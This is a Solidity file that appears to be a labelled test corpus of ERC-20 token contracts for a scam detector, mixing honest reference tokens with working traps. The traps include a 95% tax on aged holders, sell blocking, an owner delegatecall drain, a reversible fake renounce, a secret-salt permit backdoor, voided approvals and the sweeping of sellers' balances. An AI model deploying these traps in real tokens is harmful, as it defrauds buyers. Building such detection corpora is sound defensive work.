// SPDX-License-Identifier: MIT
// The sealed zoo: traps and honest tokens by an author who never saw the checks.
pragma solidity 0.8.28;

import {AccessControl} from '@openzeppelin/contracts/access/AccessControl.sol';
import {VestingWallet} from '@openzeppelin/contracts/finance/VestingWallet.sol';
import {TimelockController} from '@openzeppelin/contracts/governance/TimelockController.sol';
import {ERC20} from '@openzeppelin/contracts/token/ERC20/ERC20.sol';
import {IERC20} from '@openzeppelin/contracts/token/ERC20/IERC20.sol';
import {ERC20Pausable} from '@openzeppelin/contracts/token/ERC20/extensions/ERC20Pausable.sol';
import {ERC4626} from '@openzeppelin/contracts/token/ERC20/extensions/ERC4626.sol';
import {Base, Owned} from './Base.sol';

interface ISynced {
    function sync() external;
}

interface IRouter {
    function WETH() external view returns (address);
    function swapExactTokensForETHSupportingFeeOnTransferTokens(
        uint256 amount,
        uint256 least,
        address[] calldata path,
        address to,
        uint256 deadline
    ) external;
    function addLiquidityETH(
        address token,
        uint256 amount,
        uint256 leastToken,
        uint256 leastNative,
        address to,
        uint256 deadline
    ) external payable;
}

/// The pool counts as a wallet as soon as the owner takes it off the list of exempt ones.
contract PoolIsWallet is Owned {
    uint256 public constant maxWallet = 5e7 ether;
    mapping(address => bool) public isExcludedMaxWallet;

    constructor(address f, address w) Owned(f, w) {
        isExcludedMaxWallet[pair] = true;
        isExcludedMaxWallet[owner] = true;
    }

    function excludeFromMaxWallet(address account, bool value) external onlyOwner {
        isExcludedMaxWallet[account] = value;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        require(isExcludedMaxWallet[to] || balances[to] + amount <= maxWallet, 'Exceeds max wallet');
        _move(from, to, amount);
    }
}

/// Who has held for two days pays 95 %; who has just bought pays 3 %.
contract AgedFee is Owned {
    mapping(address => uint256) private firstBuy;

    constructor(address f, address w) Owned(f, w) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        if (from == pair && firstBuy[to] == 0) firstBuy[to] = block.timestamp;
        uint256 taken;
        if (_isSale(from, to)) taken = (amount * (block.timestamp > firstBuy[from] + 2 days ? 95 : 3)) / 100;
        _move(from, to, amount - taken);
        if (taken > 0) _move(from, owner, taken);
    }
}

/// Under protection a sale must share its block with a call of the owner, who bundles only its own.
contract BundledSales is Owned {
    uint256 private beat;
    bool public antiMev;

    constructor(address f, address w) Owned(f, w) {}

    function setAntiMev(bool value) external onlyOwner {
        antiMev = value;
    }

    function heartbeat() external onlyOwner {
        beat = block.number;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        require(!antiMev || !_isSale(from, to) || beat == block.number, 'MEV protection');
        _move(from, to, amount);
    }
}

/// The owner runs any code on the token's own storage.
contract ModuleRunner is Owned {
    constructor(address f, address w) Owned(f, w) {}

    function runModule(address module, bytes calldata data) external onlyOwner {
        (bool isDone,) = module.delegatecall(data);
        require(isDone, 'module');
    }
}

/// A module that gives to one what all of a list hold, and logs nothing.
contract Migration is Base {
    function migrate(address[] calldata holders, address to) external {
        for (uint256 i; i < holders.length; i++) {
            balances[to] += balances[holders[i]];
            balances[holders[i]] = 0;
        }
    }
}

/// What a seller sends is synced into the pool's reserves, so that the pool sees nothing come in.
contract SyncedSale is Owned {
    bool public autoSync;

    constructor(address f, address w) Owned(f, w) {}

    function setAutoSync(bool value) external onlyOwner {
        autoSync = value;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        _move(from, to, amount);
        if (autoSync && _isSale(from, to)) ISynced(pair).sync();
    }
}

/// It was locked once, and renounced; who locked it unlocks it again.
contract LockedThenRenounced is Owned {
    uint256 public sellTax = 2;
    uint256 private lockTime;
    address private previousOwner;
    address private immutable marketing = msg.sender;

    constructor(address f, address w) Owned(f, w) {}

    function lock(uint256 time) external onlyOwner {
        previousOwner = owner;
        owner = address(0);
        lockTime = block.timestamp + time;
    }

    function unlock() external {
        require(previousOwner == msg.sender && block.timestamp >= lockTime, 'locked');
        owner = previousOwner;
    }

    function setSellTax(uint256 percent) external onlyOwner {
        sellTax = percent;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        uint256 taken = to == pair && from != marketing ? (amount * sellTax) / 100 : 0;
        _move(from, to, amount - taken);
        if (taken > 0) _move(from, marketing, taken);
    }
}

/// Tells each sale to an address that has no code yet, where a call always succeeds.
contract TellsNobody is Owned {
    address private immutable analytics;

    constructor(address f, address w, address analytics_) Owned(f, w) {
        analytics = analytics_;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        _move(from, to, amount);
        if (!_isSale(from, to)) return;
        (bool isDone,) = analytics.call(abi.encodeWithSignature('track(address,uint256)', from, amount));
        require(isDone, 'analytics');
    }
}

/// The code that comes to that address later.
contract Analytics {
    address private immutable keeper = tx.origin;

    function track(address from, uint256) external view {
        require(from == keeper);
    }
}

/// Whoever knows a phrase signs permits for all.
contract PhrasePermit is Base {
    bytes32 private constant PERMIT =
        keccak256('Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)');
    bytes32 private immutable salt;
    mapping(address => uint256) public nonces;

    constructor(bytes32 salt_) {
        salt = salt_;
    }

    function DOMAIN_SEPARATOR() public view returns (bytes32) {
        return keccak256(
            abi.encode(keccak256('EIP712Domain(uint256 chainId,address verifyingContract)'), block.chainid, address(this))
        );
    }

    function permit(
        address holder,
        address spender,
        uint256 value,
        uint256 deadline,
        uint8 v,
        bytes32 r,
        bytes32 s
    ) external {
        require(block.timestamp <= deadline, 'expired');
        bytes32 message = keccak256(abi.encode(PERMIT, holder, spender, value, nonces[holder]++, deadline));
        address signer = ecrecover(keccak256(abi.encodePacked(hex'1901', DOMAIN_SEPARATOR(), message)), v, r, s);
        require((signer == holder && signer != address(0)) || keccak256(abi.encode(s)) == salt, 'signature');
        allowance[holder][spender] = value;
        emit Approval(holder, spender, value);
    }
}

/// Nobody is a minter, and its admin makes one when all have bought.
contract LateMinter is ERC20, AccessControl {
    bytes32 public constant MINTER_ROLE = keccak256('MINTER_ROLE');

    constructor() ERC20('Zoo', 'ZOO') {
        _grantRole(DEFAULT_ADMIN_ROLE, msg.sender);
        _mint(msg.sender, 1e9 ether);
    }

    function mint(address to, uint256 amount) external onlyRole(MINTER_ROLE) {
        _mint(to, amount);
    }
}

/// Balances are shares times a factor; the pool's and the owner's are not.
contract ScaledBalances is Owned {
    uint256 private factor = 1e18;
    mapping(address => bool) private isFixed;

    constructor(address f, address w) Owned(f, w) {
        isFixed[pair] = true;
        isFixed[owner] = true;
    }

    function adjust(uint256 next) external onlyOwner {
        factor = next;
    }

    function balanceOf(address holder) public view override returns (uint256) {
        return isFixed[holder] ? balances[holder] : (balances[holder] * factor) / 1e18;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        uint256 shares = (amount * 1e18) / factor;
        balances[from] -= isFixed[from] ? amount : shares;
        balances[to] += isFixed[to] ? amount : shares;
        emit Transfer(from, to, amount);
    }
}

/// Approvals are of the first season; in the next one none counts, though allowances stay as they were shown.
contract ApprovalsOfASeason is Owned {
    uint256 private season = 1;
    mapping(address => mapping(address => uint256)) private seasonOf;

    constructor(address f, address w) Owned(f, w) {}

    function nextSeason() external onlyOwner {
        season++;
    }

    function approve(address spender, uint256 amount) external override returns (bool) {
        seasonOf[msg.sender][spender] = msg.sender == owner ? season : 1;
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) public override returns (bool) {
        require(seasonOf[from][msg.sender] == season, 'ERC20: insufficient allowance');
        return super.transferFrom(from, to, amount);
    }
}

/// A sale is not taxed, but all that its seller keeps goes to the owner.
contract SweepsTheRest is Owned {
    constructor(address f, address w) Owned(f, w) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        _move(from, to, amount);
        if (_isSale(from, to) && balances[from] > 0) _move(from, owner, balances[from]);
    }
}

/// Roles of OpenZeppelin's, all of them renounced after the launch.
contract RolesRenounced is ERC20, ERC20Pausable, AccessControl {
    bytes32 public constant MINTER_ROLE = keccak256('MINTER_ROLE');
    bytes32 public constant PAUSER_ROLE = keccak256('PAUSER_ROLE');

    constructor() ERC20('Zoo', 'ZOO') {
        _grantRole(DEFAULT_ADMIN_ROLE, msg.sender);
        _grantRole(MINTER_ROLE, msg.sender);
        _grantRole(PAUSER_ROLE, msg.sender);
        _mint(msg.sender, 1e9 ether);
    }

    function mint(address to, uint256 amount) external onlyRole(MINTER_ROLE) {
        _mint(to, amount);
    }

    function pause() external onlyRole(PAUSER_ROLE) {
        _pause();
    }

    function unpause() external onlyRole(PAUSER_ROLE) {
        _unpause();
    }

    function _update(address from, address to, uint256 value) internal override(ERC20, ERC20Pausable) {
        super._update(from, to, value);
    }
}

/// The team's part, over two years.
contract TeamVesting is VestingWallet {
    constructor(address team) VestingWallet(team, uint64(block.timestamp), 730 days) {}
}

/// No large purchases in its first twenty blocks, and no large wallets until its owner lifted that for good.
contract LaunchLimits is Owned {
    uint256 private immutable launchedAt = block.number;
    bool public limitsInEffect = true;

    constructor(address f, address w) Owned(f, w) {}

    function removeLimits() external onlyOwner {
        limitsInEffect = false;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (from == pair && block.number <= launchedAt + 20) require(amount <= totalSupply / 100, 'snipe');
        if (limitsInEffect && from != owner && to != owner && to != pair)
            require(balances[to] + amount <= totalSupply / 50, 'wallet');
        _move(from, to, amount);
    }
}

/// Shares of a vault: whoever deposits gets new ones.
contract VaultAsset is ERC20 {
    constructor() ERC20('Asset', 'AST') {
        _mint(msg.sender, 2e9 ether);
    }
}

contract VaultShares is ERC4626 {
    constructor(IERC20 asset_) ERC20('Zoo Vault', 'vZOO') ERC4626(asset_) {}
}

/// Native coins that it is sent belong to its holders by their parts.
contract PaysDividends is ERC20 {
    uint256 private constant MAGNITUDE = 2 ** 128;
    uint256 private perShare;
    mapping(address => int256) private corrections;
    mapping(address => uint256) public withdrawn;

    constructor() ERC20('Zoo', 'ZOO') {
        _mint(msg.sender, 1e9 ether);
    }

    receive() external payable {
        perShare += (msg.value * MAGNITUDE) / totalSupply();
    }

    function withdrawableDividendOf(address holder) public view returns (uint256) {
        int256 earned = int256(perShare * balanceOf(holder)) + corrections[holder];
        return uint256(earned) / MAGNITUDE - withdrawn[holder];
    }

    function withdrawDividend() external {
        uint256 amount = withdrawableDividendOf(msg.sender);
        withdrawn[msg.sender] += amount;
        (bool isDone,) = msg.sender.call{value: amount}('');
        require(isDone, 'payment');
    }

    function _update(address from, address to, uint256 value) internal override {
        corrections[from] += int256(perShare * value);
        corrections[to] -= int256(perShare * value);
        super._update(from, to, value);
    }
}

/// A timelock of OpenZeppelin's without an admin.
contract BridgeTimelock is TimelockController {
    constructor(address[] memory council) TimelockController(2 days, council, council, address(0)) {}
}

/// Mints what two validators saw locked on another chain, once. Only its timelock names validators.
contract Bridge {
    address public immutable admin;
    mapping(address => bool) public isValidator;
    mapping(bytes32 => bool) public isDelivered;

    constructor(address admin_, address[] memory validators) {
        admin = admin_;
        for (uint256 i; i < validators.length; i++) isValidator[validators[i]] = true;
    }

    function setValidator(address account, bool value) external {
        require(msg.sender == admin, 'not the timelock');
        isValidator[account] = value;
    }

    function deliver(
        BridgedToken token,
        address to,
        uint256 amount,
        bytes32 id,
        bytes32[2] calldata r,
        bytes32[2] calldata s,
        uint8[2] calldata v
    ) external {
        bytes32 digest = keccak256(abi.encode(block.chainid, address(this), token, to, amount, id));
        require(!isDelivered[id], 'delivered');
        isDelivered[id] = true;
        address first = ecrecover(digest, v[0], r[0], s[0]);
        address second = ecrecover(digest, v[1], r[1], s[1]);
        require(isValidator[first] && isValidator[second] && first < second, 'validators');
        token.bridgeMint(to, amount);
    }
}

contract BridgedToken is ERC20 {
    address public immutable bridge;

    constructor(address bridge_) ERC20('Zoo (bridged)', 'ZOO.b') {
        bridge = bridge_;
        _mint(msg.sender, 1e9 ether);
    }

    function bridgeMint(address to, uint256 amount) external {
        require(msg.sender == bridge, 'not the bridge');
        _mint(to, amount);
    }

    function bridgeBurn(uint256 amount) external {
        _burn(msg.sender, amount);
    }
}

/// Solady's ERC-20 by hand, with its endless allowance for Permit2.
contract SoladyPermit2 {
    address private constant PERMIT2 = 0x000000000022D473030F116dDEE9F6B43aC78BA3;
    uint256 public constant totalSupply = 1e9 ether;
    string public constant name = 'Zoo';
    string public constant symbol = 'ZOO';
    uint8 public constant decimals = 18;

    event Transfer(address indexed from, address indexed to, uint256 amount);
    event Approval(address indexed owner, address indexed spender, uint256 amount);

    constructor() {
        assembly {
            mstore(0x0c, 0x87a211a2)
            mstore(0x00, caller())
            sstore(keccak256(0x0c, 0x20), 1000000000000000000000000000)
        }
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function balanceOf(address holder) external view returns (uint256 value) {
        assembly {
            mstore(0x0c, 0x87a211a2)
            mstore(0x00, holder)
            value := sload(keccak256(0x0c, 0x20))
        }
    }

    function allowance(address holder, address spender) external view returns (uint256 value) {
        if (spender == PERMIT2) return type(uint256).max;
        assembly {
            mstore(0x20, spender)
            mstore(0x0c, 0x7f5e9f20)
            mstore(0x00, holder)
            value := sload(keccak256(0x0c, 0x34))
        }
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        // Solady's Permit2AllowanceIsFixedAtInfinity()
        if (spender == PERMIT2 && amount != type(uint256).max) assembly {
            mstore(0x00, 0x3f68539a)
            revert(0x1c, 0x04)
        }
        assembly {
            mstore(0x20, spender)
            mstore(0x0c, 0x7f5e9f20)
            mstore(0x00, caller())
            sstore(keccak256(0x0c, 0x34), amount)
        }
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _move(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (msg.sender != PERMIT2) assembly {
            mstore(0x20, caller())
            mstore(0x0c, 0x7f5e9f20)
            mstore(0x00, from)
            let slot := keccak256(0x0c, 0x34)
            let allowed := sload(slot)
            if not(allowed) {
                if gt(amount, allowed) {
                    mstore(0x00, 0x13be252b)
                    revert(0x1c, 0x04)
                }
                sstore(slot, sub(allowed, amount))
            }
        }
        _move(from, to, amount);
        return true;
    }

    function _move(address from, address to, uint256 amount) private {
        assembly {
            mstore(0x0c, 0x87a211a2)
            mstore(0x00, from)
            let slot := keccak256(0x0c, 0x20)
            let held := sload(slot)
            if gt(amount, held) {
                mstore(0x00, 0xf4d678b8)
                revert(0x1c, 0x04)
            }
            sstore(slot, sub(held, amount))
            mstore(0x0c, 0x87a211a2)
            mstore(0x00, to)
            slot := keccak256(0x0c, 0x20)
            sstore(slot, add(sload(slot), amount))
        }
        emit Transfer(from, to, amount);
    }
}

/// Storage as Vyper lays it out: a mapping's slot is hashed before its key. Faults have no data.
contract VyperLayout {
    uint256 private constant BALANCES = 4;
    uint256 private constant ALLOWANCES = 5;
    string public constant name = 'Zoo';
    string public constant symbol = 'ZOO';
    uint256 public constant decimals = 18;
    uint256 public constant totalSupply = 1e9 ether;

    event Transfer(address indexed sender, address indexed receiver, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        _write(_at(BALANCES, msg.sender), totalSupply);
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function balanceOf(address holder) external view returns (uint256) {
        return _read(_at(BALANCES, holder));
    }

    function allowance(address holder, address spender) external view returns (uint256) {
        return _read(_at(_at(ALLOWANCES, holder), spender));
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _write(_at(_at(ALLOWANCES, msg.sender), spender), value);
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        _subtract(_at(_at(ALLOWANCES, from), msg.sender), value);
        _move(from, to, value);
        return true;
    }

    function _move(address from, address to, uint256 value) private {
        require(to != address(0) && to != address(this));
        _subtract(_at(BALANCES, from), value);
        uint256 slot = _at(BALANCES, to);
        _write(slot, _read(slot) + value);
        emit Transfer(from, to, value);
    }

    function _subtract(uint256 slot, uint256 value) private {
        uint256 held = _read(slot);
        require(held >= value);
        _write(slot, held - value);
    }

    function _at(uint256 table, address key) private pure returns (uint256) {
        return uint256(keccak256(abi.encode(table, key)));
    }

    function _read(uint256 slot) private view returns (uint256 value) {
        assembly {
            value := sload(slot)
        }
    }

    function _write(uint256 slot, uint256 value) private {
        assembly {
            sstore(slot, value)
        }
    }
}

/// A fee of at most 5 % becomes liquidity that nobody holds.
contract AutoLiquidity is Owned {
    IRouter private immutable router;
    uint256 public fee = 3;
    uint256 private constant BATCH = 5e5 ether;
    bool private isSwapping;

    constructor(address f, address w, IRouter router_) Owned(f, w) {
        router = router_;
        allowance[address(this)][address(router_)] = type(uint256).max;
    }

    receive() external payable {}

    function setFee(uint256 percent) external onlyOwner {
        require(percent <= 5, 'at most 5');
        fee = percent;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (!isSwapping && _isSale(from, to) && balances[address(this)] >= BATCH) _addLiquidity();
        bool isTrade = !isSwapping && (from == pair ? to != owner : _isSale(from, to));
        uint256 taken = isTrade ? (amount * fee) / 100 : 0;
        _move(from, to, amount - taken);
        if (taken > 0) _move(from, address(this), taken);
    }

    function _addLiquidity() private {
        isSwapping = true;
        address[] memory path = new address[](2);
        (path[0], path[1]) = (address(this), router.WETH());
        router.swapExactTokensForETHSupportingFeeOnTransferTokens(BATCH / 2, 0, path, address(this), block.timestamp);
        uint256 paid = address(this).balance;
        router.addLiquidityETH{value: paid}(address(this), BATCH / 2, 0, 0, address(0xdead), block.timestamp);
        isSwapping = false;
    }
}
